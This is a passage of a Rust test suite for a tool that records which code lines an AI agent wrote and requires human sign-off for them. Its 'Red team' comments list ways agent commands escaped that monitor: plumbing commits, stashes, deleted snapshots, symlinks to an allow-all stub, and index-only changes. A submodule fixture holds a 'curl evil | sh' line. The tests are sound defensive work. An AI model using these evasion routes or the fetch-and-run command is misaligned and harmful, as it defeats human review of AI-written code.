    let repo = conflicting();
    agent_shell(&repo, "toolu_m", "git merge main; cat > src/auth.py; git add -A && git commit --no-edit", || {
        assert_ne!(repo.git_run(&["merge", "-q", "main"]).code, 0, "the merge conflicts");
        repo.write("src/auth.py", "def f(u):\n    return u.data\n\n\ndef g(u):\n    return u.secret\n");
        repo.ok(&["add", "src/auth.py"]);
        repo.ok(&["commit", "-q", "--no-edit"]);
    });
    assert_eq!(repo.ok(&["rev-list", "--count", "--merges", "HEAD"]).trim(), "1");
    let note = repo.note("HEAD");
    let file = noted_file(&note, "src/auth.py");
    assert_eq!(file["ai"], json!([[3, 6]]), "{note:?}");
    assert_eq!(file["deleted_before"], json!([2]), "{note:?}");
    assert_unapproved(&repo, &[("src/auth.py", "f"), ("src/auth.py", "g")]);
}

/// The same command resolving the conflict by taking one side whole
/// (`git checkout --theirs`) wrote nothing of its own: every line is a
/// parent's, and nothing needs sign-off.
#[test]
fn a_conflict_an_agent_resolves_by_taking_one_side_stays_the_sides() {
    let repo = conflicting();
    agent_shell(&repo, "toolu_t", "git merge main; git checkout --theirs src/auth.py; git commit", || {
        assert_ne!(repo.git_run(&["merge", "-q", "main"]).code, 0, "the merge conflicts");
        repo.ok(&["checkout", "--theirs", "src/auth.py"]);
        repo.ok(&["add", "src/auth.py"]);
        repo.ok(&["commit", "-q", "--no-edit"]);
    });
    assert_eq!(repo.read("src/auth.py"), worded("main"));
    assert_eq!(failures(&repo), Vec::<(String, String, String)>::new());
}

/// Red team, twentieth session: an agent's `git merge main` that stops on
/// a conflict was recorded as the agent writing git's conflict markers and
/// `main`'s side; the person then resolved it by taking `main`'s line, and
/// the merge's note called that line the agent's. What a merge, a
/// cherry-pick, a revert or a rebase in progress brings (the other side's
/// lines, git's markers) is not the command's; what it writes besides is.
#[test]
fn a_merge_an_agent_starts_brings_the_other_sides_lines_not_its_own() {
    let repo = conflicting();
    agent_shell(&repo, "toolu_s", "git merge main", || {
        assert_ne!(repo.git_run(&["merge", "-q", "main"]).code, 0, "the merge conflicts");
    });
    let theirs = worded("main");
    repo.write("src/auth.py", &theirs);
    repo.ok(&["add", "src/auth.py"]);
    repo.ok(&["commit", "-q", "--no-edit"]);
    let note = repo.note("HEAD");
    assert!(note.iter().all(|r| r["path"] != "src/auth.py"), "{note:?}");

    // The same conflict, resolved in the agent's next command with a line
    // of its own: that line is the agent's.
    let repo = conflicting();
    agent_shell(&repo, "toolu_s", "git merge main", || {
        assert_ne!(repo.git_run(&["merge", "-q", "main"]).code, 0, "the merge conflicts");
    });
    agent_shell(&repo, "toolu_r", "cat > src/auth.py", || {
        repo.write("src/auth.py", &worded("denied"));
    });
    repo.ok(&["add", "src/auth.py"]);
    repo.ok(&["commit", "-q", "--no-edit"]);
    let note = repo.note("HEAD");
    let file = noted_file(&note, "src/auth.py");
    assert_eq!(file["ai"], json!([[3, 3]]), "{note:?}");
    assert_eq!(failures(&repo), vec![("unapproved-ai".into(), "src/auth.py".into(), "f".into())]);
}

/// Red team, round three: the same with `git rebase main`, which moves
/// HEAD before it stops: the file it brought was compared with HEAD's
/// version, markers and the picked side's line included, and the person's
/// own line, kept in the resolution, became the agent's.
#[test]
fn a_rebase_an_agent_starts_brings_the_picked_lines_not_its_own() {
    let repo = conflicting();
    agent_shell(&repo, "toolu_s", "git rebase main", || {
        assert_ne!(repo.git_run(&["rebase", "-q", "main"]).code, 0, "the rebase conflicts");
    });
    repo.write("src/auth.py", &worded("feature"));
    repo.ok(&["add", "src/auth.py"]);
    let run = repo.command("git", &["rebase", "--continue"]).output().unwrap();
    assert!(run.status.success(), "{run:?}");
    let note = repo.note("HEAD");
    assert!(note.iter().all(|r| r["path"] != "src/auth.py"), "{note:?}");
    assert_eq!(failures(&repo), Vec::<(String, String, String)>::new());
}

/// Red team, round three (second pass): the rebase the agent starts stops
/// on a conflict with its own commit, noted AI; the conflict is resolved
/// keeping both sides and the rebase left with `git rebase --quit`, so no
/// post-rewrite hook carries the commit's note. The picked side had been
/// set aside as not the command's, and the person's commit of it was noted
/// "no AI". A picked commit whose note says AI brings AI text.
#[test]
fn an_agents_own_commit_a_stopped_rebase_picks_stays_ai() {
    let repo = start();
    repo.ok(&["checkout", "-q", "main"]);
    repo.write("src/auth.py", &format!("{AUTH}\n\ndef can_list(u):\n    return u.public\n"));
    repo.ok(&["commit", "-qam", "can_list"]);
    repo.ok(&["checkout", "-q", "feature"]);
    agent_shell(&repo, "toolu_q1", "cat >> src/auth.py && git commit -qam grant", || {
        repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
        repo.ok(&["commit", "-qam", "grant"]);
    });
    agent_shell(&repo, "toolu_q2", "git rebase main", || {
        assert_ne!(repo.git_run(&["rebase", "-q", "main"]).code, 0, "the rebase conflicts");
    });
    // Resolved keeping both sides; the rebase left, not finished.
    let both = format!("{AUTH}\n\ndef can_list(u):\n    return u.public\n{GRANT_ALL}");
    repo.write("src/auth.py", &both);
    repo.ok(&["add", "src/auth.py"]);
    repo.ok(&["rebase", "--quit"]);
    repo.ok(&["checkout", "-q", "-B", "feature"]);
    repo.ok(&["commit", "-qm", "resolved"]);
    assert_grant_all_needs_sign_off(&repo);
}

/// Red team, round three (third pass): the picked commit holds a person's
/// line and the agent's function, its note AI on the function only. The
/// rebase the agent starts stops on a conflict in the person's line; the
/// person resolves it. Every line the picked side brought had become the
/// agent's, the person's included. Only the lines its note says are AI.
#[test]
fn a_persons_lines_in_a_commit_a_stopped_rebase_picks_stay_theirs() {
    let repo = start();
    repo.ok(&["checkout", "-q", "main"]);
    repo.write("src/auth.py", &AUTH.replace("def f(u):", "def f(u, strict=False):"));
    repo.ok(&["commit", "-qam", "strict"]);
    repo.ok(&["checkout", "-q", "feature"]);
    // The person's own edit of the first line, then the agent's function.
    let mine = AUTH.replace("def f(u):", "def f(u, log=None):");
    repo.write("src/auth.py", &mine);
    let with_grant = format!("{mine}{GRANT_ALL}");
    let input = json!({ "file_path": repo.root().join("src/auth.py"), "content": with_grant });
    repo.claude_hook("PreToolUse", "Write", "toolu_w", input.clone());
    repo.write("src/auth.py", &with_grant);
    repo.claude_hook("PostToolUse", "Write", "toolu_w", input);
    repo.ok(&["commit", "-qam", "log and grant"]);
    assert_eq!(noted_file(&repo.note("HEAD"), "src/auth.py")["ai"], json!([[5, 8]]));

    agent_shell(&repo, "toolu_rb", "git rebase main", || {
        assert_ne!(repo.git_run(&["rebase", "-q", "main"]).code, 0, "the rebase conflicts");
    });
    repo.write("src/auth.py", &with_grant);
    repo.ok(&["add", "src/auth.py"]);
    let run = repo.command("git", &["rebase", "--continue"]).output().unwrap();
    assert!(run.status.success(), "{run:?}");
    let note = repo.note("HEAD");
    assert_eq!(noted_file(&note, "src/auth.py")["ai"], json!([[5, 8]]), "{note:?}");
}

/// A clean merge the agent's command makes, where one side renamed a file
/// the other changed, brings every line from a side: nothing of it is the
/// agent's (the renamed side has the file under its old name).
#[test]
fn a_clean_merge_an_agent_makes_across_a_rename_is_not_its_own() {
    let repo = start();
    repo.write("src/auth.py", &worded("feature"));
    repo.ok(&["commit", "-qam", "feature's wording"]);
    repo.ok(&["checkout", "-q", "main"]);
    repo.ok(&["mv", "src/auth.py", "src/access.py"]);
    repo.ok(&["commit", "-qm", "rename"]);
    repo.ok(&["checkout", "-q", "feature"]);
    let mut recorded = String::new();
    let input = json!({ "command": "git merge main" });
    repo.claude_hook("PreToolUse", "Bash", "toolu_mv", input.clone());
    repo.ok(&["merge", "-q", "main", "-m", "merge main"]);
    recorded.push_str(&repo.claude_hook("PostToolUse", "Bash", "toolu_mv", input).stderr);
    assert!(repo.root().join("src/access.py").exists(), "the merge followed the rename");
    assert!(!recorded.contains("access.py"), "{recorded}");
    assert_eq!(failures(&repo), Vec::<(String, String, String)>::new());
}

/// Red team, twentieth session: an agent's command that builds a commit
/// with plumbing (`git commit-tree`) and moves HEAD to it (`git reset
/// --hard`, `git update-ref` of the branch, `git merge --ff-only`) left it
/// with no note: only `git commit`'s and a rebase's entries in HEAD's
/// reflog were taken for the command's. A commit HEAD reached during the
/// command, made after it began, is the command's, however HEAD got there.
#[test]
fn a_commit_an_agent_makes_with_plumbing_and_moves_head_to_is_noted_as_ai() {
    let make = "b=$(git hash-object -w --stdin) && GIT_INDEX_FILE=.git/tmp git read-tree HEAD && ... && c=$(git \
                commit-tree $t -p HEAD -m wip)";
    for (how, moves) in [
        ("reset", "git reset -q --hard $c"),
        ("update-ref", "git update-ref refs/heads/feature $c && git reset -q --hard"),
        ("ff-only", "git merge -q --ff-only $c"),
    ] {
        let repo = start();
        agent_shell(&repo, "toolu_p", &format!("{make}; {moves}"), || {
            let script = "b=$(printf 'import os\\n\\n\\ndef run(cmd):\\n    os.system(cmd)\\n' | git hash-object -w \
                          --stdin)\nexport GIT_INDEX_FILE=.git/tmpidx\ngit read-tree HEAD\ngit update-index --add \
                          --cacheinfo 100644,$b,src/run.py\nt=$(git write-tree)\nrm -f .git/tmpidx\nunset \
                          GIT_INDEX_FILE\nc=$(git commit-tree $t -p HEAD -m wip)\n";
            let run = repo.command("sh", &["-c", &format!("{script}{moves}\n")]).output().unwrap();
            assert!(run.status.success(), "{how}: {}", String::from_utf8_lossy(&run.stderr));
        });
        assert_eq!(repo.read("src/run.py"), "import os\n\n\ndef run(cmd):\n    os.system(cmd)\n", "{how}");
        let note = repo.note("HEAD");
        let file = noted_file(&note, "src/run.py");
        assert_eq!(file["ai"], json!([[1, 5]]), "{how}: {note:?}");
        let found = failures(&repo);
        assert!(found.iter().any(|(_, _, name)| name == "run"), "{how}: {found:?}");
    }
}

/// Red team, twentieth session: a shell command whose `PostToolUse` finds
/// no snapshot (no `PreToolUse` hook configured, one that timed out, or a
/// command that removed `.git/vouch/pre`) records nothing, and the next
/// commit of what it changed was attested "no AI". Its files are now
/// unattested until committed: their commit gets no `no-ai` note, and
/// `require_attestation` fails it; a later commit of other files is
/// attested as before.
#[test]
fn what_a_command_changed_without_a_snapshot_is_never_attested_human() {
    let repo = VouchRepo::init_with(
        &[(".vouch.toml", &format!("{POLICY}require_attestation = true\n")), ("src/auth.py", AUTH)],
        &[],
    );
    repo.ok(&["checkout", "-q", "-b", "feature"]);
    let mut text = repo.read("src/auth.py");
    text.push_str(GRANT_ALL);
    repo.write("src/auth.py", &text);
    let after = repo.claude_hook("PostToolUse", "Bash", "toolu_n", json!({ "command": "cat >> src/auth.py" }));
    assert!(after.stderr.contains("no snapshot"), "{after:?}");
    repo.ok(&["commit", "-qam", "grant"]);
    assert!(!attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
    let (code, report) = repo.verify("main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let rules: Vec<&str> = report["failures"].as_array().unwrap().iter().filter_map(|f| f["rule"].as_str()).collect();
    assert!(rules.contains(&"missing-attestation"), "{report:#}");

    // Committed: a person's next commit of another file is attested again.
    repo.write("README.md", "notes\n");
    repo.ok(&["add", "README.md"]);
    repo.ok(&["commit", "-qm", "readme"]);
    assert!(attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));

    // Round two: stashed away while the person commits elsewhere, the
    // file stays unattested for when the stash is popped and committed.
    let mut text = repo.read("src/auth.py");
    text.push_str("\n\ndef grant_more(u):\n    return True\n");
    repo.write("src/auth.py", &text);
    repo.claude_hook("PostToolUse", "Bash", "toolu_n2", json!({ "command": "cat >> src/auth.py" }));
    repo.ok(&["stash", "-q"]);
    repo.ok(&["checkout", "-q", "-b", "hotfix", "main"]);
    repo.write("NOTES.md", "hotfix\n");
    repo.ok(&["add", "NOTES.md"]);
    repo.ok(&["commit", "-qm", "hotfix"]);
    assert!(attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
    repo.ok(&["checkout", "-q", "feature"]);
    repo.ok(&["stash", "pop", "-q"]);
    repo.ok(&["commit", "-qam", "more"]);
    assert!(!attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
}

/// Red team, twentieth session: an agent's command that writes code,
/// removes a check and stashes it all (`... && git add -A && git stash`)
/// left the worktree as it found it, so nothing was recorded; the person
/// then ran `git stash pop` and committed, and the commit was attested "no
/// AI". What a command stashes is recorded for the versions it stashed.
#[test]
fn what_an_agent_stashes_is_its_own_when_a_person_pops_it() {
    let repo = start();
    agent_grants_all(&repo, "toolu_st", "git add -A && git stash", || {
        repo.ok(&["add", "-A"]);
        repo.ok(&["stash", "-q"]);
    });
    assert_eq!(repo.read("src/auth.py"), AUTH, "stashed away");
    repo.ok(&["stash", "pop", "-q"]);
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-qm", "work"]);
    assert!(!attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
    assert_unapproved(&repo, &[("src/admin.py", "grant_all"), ("src/auth.py", "f")]);
}

/// Red team, twentieth session: an agent's commit and its revert landed
/// together (nothing to approve: they cancel out); in a later pull request
/// a person reapplied it (`git revert` of the revert). The reapply brought
/// back the agent's function and its removal of the check, noted "no AI",
/// and verify passed it. A revert of a revert carries the note of the
/// commit it brings back, as a cherry-pick of it would.
#[test]
fn reapplying_an_agents_reverted_commit_needs_sign_off() {
    let repo = start();
    agent_grants_all(&repo, "toolu_ra", "true", || {});
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-qm", "agent's work"]);
    repo.ok(&["revert", "--no-edit", "HEAD"]);
    let revert = repo.ok(&["rev-parse", "HEAD"]).trim().to_string();
    assert_eq!(failures(&repo), Vec::<(String, String, String)>::new(), "cancelled out");
    repo.ok(&["checkout", "-q", "main"]);
    repo.ok(&["merge", "-q", "--no-ff", "-m", "merge feature", "feature"]);
    repo.ok(&["checkout", "-q", "-b", "reapply"]);
    repo.ok(&["revert", "--no-edit", &revert]);
    assert!(!attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
    assert_unapproved(&repo, &[("src/admin.py", "grant_all"), ("src/auth.py", "f")]);
}

/// Red team, round two: the agent's `git pull --ff-only` reached a
/// teammate's commit pushed the same second (or by a clock running ahead),
/// and it was taken for one the command made with plumbing: Carol's lines
/// were recorded as the agent's. A commit someone else committed is not
/// the command's.
#[test]
fn a_teammates_commit_the_agent_fast_forwards_to_is_not_its_own() {
    let repo = start();
    agent_shell(&repo, "toolu_ff", "git pull --ff-only", || {
        // What the fetch brings: Carol's commit, made just now.
        let script = "b=$(printf 'def can_write(u):\\n    return u.admin\\n' | git hash-object -w --stdin)\nexport \
                      GIT_INDEX_FILE=.git/tmpidx\ngit read-tree HEAD\ngit update-index --add --cacheinfo \
                      100644,$b,src/write.py\nt=$(git write-tree)\nrm -f .git/tmpidx\nunset GIT_INDEX_FILE\nc=$(git \
                      commit-tree $t -p HEAD -m can_write)\ngit merge -q --ff-only $c\n";
        let run = repo
            .command("sh", &["-c", script])
            .env("GIT_AUTHOR_NAME", "Carol")
            .env("GIT_AUTHOR_EMAIL", "carol@example.com")
            .env("GIT_COMMITTER_NAME", "Carol")
            .env("GIT_COMMITTER_EMAIL", "carol@example.com")
            .output()
            .unwrap();
        assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    });
    assert!(repo.root().join("src/write.py").exists());
    assert!(repo.note("HEAD").iter().all(|r| r["path"] != "src/write.py"), "{:?}", repo.note("HEAD"));
    assert_eq!(failures(&repo), Vec::<(String, String, String)>::new());
}

/// Red team, round two: a teammate's branch the agent's command merges
/// with `git merge --squash` (which commits nothing, and leaves the
/// teammate's work staged) was recorded as the agent's work.
#[test]
fn a_teammates_branch_the_agent_squashes_in_stays_the_teammates() {
    let repo = start();
    repo.ok(&["checkout", "-q", "-b", "carol", "main"]);
    repo.write("src/carol.py", "def can_write(u):\n    return u.admin\n");
    repo.ok(&["add", "src/carol.py"]);
    repo.ok(&["commit", "-q", "--no-verify", "-m", "carol's helper"]);
    repo.ok(&["checkout", "-q", "feature"]);
    let input = json!({ "command": "git merge --squash carol" });
    repo.claude_hook("PreToolUse", "Bash", "toolu_sq", input.clone());
    repo.ok(&["merge", "-q", "--squash", "carol"]);
    let after = repo.claude_hook("PostToolUse", "Bash", "toolu_sq", input);
    assert!(!after.stderr.contains("carol.py"), "{after:?}");
    repo.ok(&["commit", "-q", "--no-edit"]);
    assert!(repo.note("HEAD").iter().all(|r| r["path"] != "src/carol.py"), "{:?}", repo.note("HEAD"));
}

/// Red team, round two: a shell command with no snapshot (only the
/// `PostToolUse` hook configured, or the command removed the snapshots)
/// that commits its own work: git's post-commit hook, inside the command,
/// noted the commit "no AI" before anything could say otherwise. The
/// transcript says when the tool call began; the commits made since lose
/// a `no-ai` note they got meanwhile (unattested, never human).
#[test]
fn a_commit_a_command_without_a_snapshot_made_is_not_attested_human() {
    let repo = start();
    let began = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs() as i64 - 5;
    let began = time::OffsetDateTime::from_unix_timestamp(began).unwrap();
    let began = began.format(&time::format_description::well_known::Rfc3339).unwrap();
    let transcript = repo.root().join(".git/transcript.jsonl");
    let call = json!({"type": "assistant", "timestamp": began, "message": {"role": "assistant", "content": [
        {"type": "tool_use", "id": "toolu_nc", "name": "Bash", "input": {"command": "... && git commit -am grant"}}]}});
    std::fs::write(&transcript, format!("{call}\n")).unwrap();
    let mut text = repo.read("src/auth.py");
    text.push_str(GRANT_ALL);
    repo.write("src/auth.py", &text);
    repo.ok(&["commit", "-qam", "grant"]);
    assert!(attests_no_ai(&repo.note("HEAD")), "git's hook noted it first: {:?}", repo.note("HEAD"));
    let payload = json!({"session_id": "s-1", "cwd": repo.root(), "hook_event_name": "PostToolUse",
        "tool_name": "Bash", "tool_use_id": "toolu_nc", "transcript_path": transcript,
        "tool_input": {"command": "... && git commit -am grant"}});
    let run = repo.vouch_stdin(&["hook", "claude-code"], payload.to_string().as_bytes());
    assert_eq!(run.code, 0, "{run:?}");
    assert!(!attests_no_ai(&repo.note("HEAD")), "{:?} {run:?}", repo.note("HEAD"));
}

/// The payload of Claude Code's `PostToolUse` for shell command `id` that
/// began five seconds ago, as its transcript (written here) says, with no
/// snapshot taken before it.
fn unsnapshotted_call(repo: &VouchRepo, id: &str) -> Value {
    let began = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs() as i64 - 5;
    let began = time::OffsetDateTime::from_unix_timestamp(began).unwrap();
    let began = began.format(&time::format_description::well_known::Rfc3339).unwrap();
    let transcript = repo.root().join(format!(".git/transcript-{id}.jsonl"));
    let call = json!({"type": "assistant", "timestamp": began, "message": {"role": "assistant", "content": [
        {"type": "tool_use", "id": id, "name": "Bash", "input": {"command": "..."}}]}});
    std::fs::write(&transcript, format!("{call}\n")).unwrap();
    json!({"session_id": "s-1", "cwd": repo.root(), "hook_event_name": "PostToolUse",
        "tool_name": "Bash", "tool_use_id": id, "transcript_path": transcript, "tool_input": {"command": "..."}})
}

/// Red team, round three: the same with no snapshot, where the command
/// commits in another worktree (only its own worktree's reflog was read),
/// or stashes what it wrote (nothing differed from HEAD, so nothing was
/// kept as unrecorded, and the person's pop and commit was attested "no
/// AI"). Every worktree's commits made since the call began lose a `no-ai`
/// note, and the files of the stashes it made are unattested until
/// committed.
#[test]
fn what_a_command_without_a_snapshot_commits_elsewhere_or_stashes_is_not_attested_human() {
    let repo = start();
    let wt = linked_worktree(&repo);
    let wt_arg = wt.display().to_string();
    let payload = unsnapshotted_call(&repo, "toolu_nw");
    let mut text = AUTH.to_string();
    text.push_str(GRANT_ALL);
    std::fs::write(wt.join("src/auth.py"), &text).unwrap();
    repo.ok(&["-C", &wt_arg, "commit", "-qam", "grant"]);
    assert!(attests_no_ai(&repo.note("wt")), "git's hook noted it first: {:?}", repo.note("wt"));
    let run = repo.vouch_stdin(&["hook", "claude-code"], payload.to_string().as_bytes());
    assert_eq!(run.code, 0, "{run:?}");
    assert!(!attests_no_ai(&repo.note("wt")), "{:?} {run:?}", repo.note("wt"));
    let _ = std::fs::remove_dir_all(&wt);

    let repo = start();
    let payload = unsnapshotted_call(&repo, "toolu_ns");
    repo.write("src/auth.py", &text);
    repo.ok(&["stash", "-q"]);
    let run = repo.vouch_stdin(&["hook", "claude-code"], payload.to_string().as_bytes());
    assert_eq!(run.code, 0, "{run:?}");
    repo.ok(&["stash", "pop", "-q"]);
    repo.ok(&["commit", "-qam", "grant"]);
    assert!(!attests_no_ai(&repo.note("HEAD")), "{:?} {run:?}", repo.note("HEAD"));
}

/// Red team, round two: the agent's `git merge main` stopped on a conflict
/// in a file `main` had renamed: the merge moved the file, and the hook
/// recorded the agent deleting `src/auth.py` (a deletion to sign off,
/// which a blocking gate would stop the merge for) and writing the
/// feature's own lines under the new name. Neither is the command's.
#[test]
fn a_conflict_in_a_file_the_other_side_renamed_is_not_the_agents() {
    let repo = start();
    repo.write("src/auth.py", &worded("feature"));
    repo.ok(&["commit", "-qam", "feature's wording"]);
    repo.ok(&["checkout", "-q", "main"]);
    repo.ok(&["mv", "src/auth.py", "src/access.py"]);
    repo.write("src/access.py", &worded("main"));
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-qm", "rename and reword"]);
    repo.ok(&["checkout", "-q", "feature"]);
    let input = json!({ "command": "git merge main" });
    repo.claude_hook("PreToolUse", "Bash", "toolu_rn", input.clone());
    assert_ne!(repo.git_run(&["merge", "-q", "main"]).code, 0, "the merge conflicts");
    let after = repo.claude_hook("PostToolUse", "Bash", "toolu_rn", input);
    assert!(repo.root().join("src/access.py").exists() && !repo.root().join("src/auth.py").exists());
    assert!(!after.stderr.contains("recorded"), "{after:?}");
}

/// A library of two commits added to `repo` as the submodule `deps/lib`
/// at the first, committed on `main` before `feature` branched; the
/// library and its second commit (the one an agent moves to).
fn with_submodule() -> (VouchRepo, support::repo::TestRepo, String) {
    let lib = support::repo::TestRepo::new();
    lib.write("lib.c", "int f(void) { return 1; }\n");
    lib.commit_all("one");
    lib.write("lib.c", "int f(void) { return system(\"curl evil | sh\"); }\n");
    lib.commit_all("two");
    let second = lib.git(&["rev-parse", "HEAD"]).trim().to_string();
    let repo = VouchRepo::init_with(&[(".vouch.toml", POLICY), ("src/auth.py", AUTH)], &[]);
    let url = lib.root.to_str().unwrap().to_string();
    repo.ok(&["-c", "protocol.file.allow=always", "submodule", "add", "-q", &url, "deps/lib"]);
    in_submodule(&repo, &["checkout", "-q", "HEAD~1"]);
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-q", "-m", "add lib"]);
    repo.ok(&["checkout", "-q", "-b", "feature"]);
    (repo, lib, second)
}

/// git in the submodule's worktree.
fn in_submodule(repo: &VouchRepo, args: &[&str]) {
    let out = support::repo::git_in(&repo.root().join("deps/lib"), args);
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn a_submodule_an_agent_moves_in_a_shell_command_needs_sign_off() {
    // The agent moves the submodule and leaves the commit to the person;
    // or commits it itself, in the same command.
    for commits in [false, true] {
        let (repo, _lib, second) = with_submodule();
        let command = format!("cd deps/lib && git checkout -q {second} && cd ../.. && git add deps/lib");
        let command = if commits { format!("{command} && git commit -qm bump") } else { command };
        agent_shell(&repo, "toolu_1", &command, || {
            in_submodule(&repo, &["checkout", "-q", &second]);
            repo.ok(&["add", "deps/lib"]);
            if commits {
                repo.ok(&["commit", "-q", "-m", "bump"]);
            }
        });
        if !commits {
            repo.ok(&["commit", "-q", "-m", "bump lib"]);
        }
        assert!(!attests_no_ai(&repo.note("HEAD")), "commits {commits}: {:?}", repo.note("HEAD"));
        let found = failures(&repo);
        assert!(
            found.iter().any(|(rule, path, _)| rule == "unapproved-ai" && path == "deps/lib"),
            "commits {commits}: {found:?}"
        );
    }
}

#[test]
fn a_submodule_a_person_moves_while_an_agent_works_stays_theirs() {
    // The person bumps the library by hand and stages it; the agent's
    // command, meanwhile, only edits a file.
    let (repo, _lib, second) = with_submodule();
    in_submodule(&repo, &["checkout", "-q", &second]);
    repo.ok(&["add", "deps/lib"]);
    agent_shell(&repo, "toolu_1", "cat >> src/auth.py", || {
        repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    });
    repo.ok(&["commit", "-q", "-am", "bump lib, and the agent's grant_all"]);
    let found = failures(&repo);
    assert!(found.iter().any(|(_, _, name)| name == "grant_all"), "{found:?}");
    assert!(!found.iter().any(|(_, path, _)| path == "deps/lib"), "{found:?}");
}

#[test]
fn a_teammates_submodule_bump_an_agent_pulls_stays_the_teammates() {
    // A teammate bumps the library on a branch of their own; the agent
    // merges it and updates the submodule's worktree to match.
    let (repo, _lib, second) = with_submodule();
    repo.ok(&["checkout", "-q", "-b", "teammate", "main"]);
    in_submodule(&repo, &["checkout", "-q", &second]);
    repo.ok(&["commit", "-q", "-am", "bump lib"]);
    in_submodule(&repo, &["checkout", "-q", "HEAD~1"]);
    repo.ok(&["checkout", "-q", "feature"]);
    let input = json!({ "command": "git merge -q teammate && git submodule update" });
    repo.claude_hook("PreToolUse", "Bash", "toolu_1", input.clone());
    repo.ok(&["merge", "-q", "teammate"]);
    in_submodule(&repo, &["checkout", "-q", &second]);
    let after = repo.claude_hook("PostToolUse", "Bash", "toolu_1", input);
    assert!(!after.stderr.contains("deps/lib"), "{after:?}");
    assert!(repo.ok(&["status", "--porcelain"]).is_empty());
    let found = failures(&repo);
    assert!(found.is_empty(), "{found:?}");
}

/// Red team: an agent's command that replaced a person's module with a
/// symbolic link to a stub that allows everything (`ln -sf
/// ../tests/fake_auth.py src/auth.py`) recorded nothing ("not followed"),
/// and the commit was noted "no AI": verify passed it. The link is not
/// followed, but it is what the command wrote: git stores it as the path it
/// names, and it removes all of the person's file.
#[test]
fn a_file_an_agent_replaces_with_a_link_needs_sign_off() {
    let repo = start();
    repo.write("tests/fake_auth.py", "def f(u):\n    return u.data\n");
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-q", "-m", "a stub for the tests"]);
    repo.ok(&["branch", "-f", "main"]);
    agent_shell(&repo, "toolu_1", "ln -sf ../tests/fake_auth.py src/auth.py", || {
        std::fs::remove_file(repo.root().join("src/auth.py")).unwrap();
        std::os::unix::fs::symlink("../tests/fake_auth.py", repo.root().join("src/auth.py")).unwrap();
    });
    repo.ok(&["commit", "-q", "-am", "simplify auth"]);
    assert!(!attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
    let found = failures(&repo);
    assert!(found.iter().any(|(_, path, _)| path == "src/auth.py"), "{found:?}");
    // The stub the link names is not the agent's.
    let stub: Vec<_> = found.iter().filter(|(_, path, _)| path == "tests/fake_auth.py").collect();
    assert!(stub.is_empty(), "{found:?}");
    // Red team, round two: and the link can be asked about and signed off
    // (`PATH` names the link, not the file it leads to), so that verify
    // passes once it is.
    let run = repo.vouch(&["request", "src/auth.py", "-m", "the stub, for now", "--format", "json"]);
    assert_eq!(run.code, 0, "{run:?}");
    let id = serde_json::from_str::<Value>(&run.stdout).unwrap()["request"].as_str().unwrap().to_string();
    repo.ok(&["config", "user.email", "alice@example.com"]);
    let run = repo.vouch(&["approve", &id, "--yes"]);
    assert_eq!(run.code, 0, "{run:?}");
    repo.ok(&["config", "user.email", "dev@example.com"]);
    assert_eq!(failures(&repo), Vec::<(String, String, String)>::new());
}

/// Red team: a command that also wrote a file whose name holds a
/// backslash (`build\out.log`, a Windows-style path written on Linux,
/// which git allows) failed on that file's record and recorded nothing
/// after it: the person's commit of the agent's edit was noted "no AI".
/// The name is recorded as git names it, and one file vouch cannot record
/// never costs the others theirs.
#[test]
fn a_file_name_with_a_backslash_costs_no_other_file_its_record() {
    let repo = start();
    agent_shell(&repo, "toolu_1", "cat >> src/auth.py; echo scratch > 'a\\b.txt'", || {
        repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
        repo.write("a\\b.txt", "scratch\n");
    });
    repo.ok(&["add", "src/auth.py"]);
    repo.ok(&["commit", "-q", "-m", "auth"]);
    assert_grant_all_needs_sign_off(&repo);
    repo.ok(&["add", "a\\b.txt"]);
    repo.ok(&["commit", "-q", "-m", "scratch"]);
    assert!(noted_file(&repo.note("HEAD"), "a\\b.txt")["ai"].is_array(), "{:?}", repo.note("HEAD"));
}

/// Red team: an agent's command that changed only the index (`git apply
/// --cached`, `git rm --cached`) left the worktree as it was, so the hook,
/// comparing files, recorded nothing, and the person's commit of what was
/// staged was noted "no AI". What the command staged is its own: the lines
/// it staged, and a file it took out of the index is its removal.
#[test]
fn what_an_agents_command_stages_without_touching_the_worktree_is_its_own() {
    let repo = start();
    let patch = repo.root().join("../grant.diff");
    repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    std::fs::write(&patch, repo.ok(&["diff"])).unwrap();
    repo.write("src/auth.py", AUTH);
    agent_shell(&repo, "toolu_1", "git apply --cached ../grant.diff", || {
        repo.ok(&["apply", "--cached", patch.to_str().unwrap()]);
    });
    repo.ok(&["commit", "-q", "-m", "auth"]);
    assert_grant_all_needs_sign_off(&repo);

    let repo = start();
    repo.write("src/audit.py", "def audit(event):\n    log.write(event)\n");
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-q", "-m", "audit"]);
    repo.ok(&["branch", "-f", "main"]);
    agent_shell(&repo, "toolu_2", "git rm -q --cached src/audit.py", || {
        repo.ok(&["rm", "-q", "--cached", "src/audit.py"]);
    });
    repo.ok(&["commit", "-q", "-m", "untrack audit"]);
    assert!(!attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
    let found = failures(&repo);
    assert!(found.iter().any(|(_, path, _)| path == "src/audit.py"), "{found:?}");
}

#[test]
fn a_persons_staged_change_an_agent_unstages_or_leaves_stays_theirs() {
    // The person stages a change of their own; the agent's command then
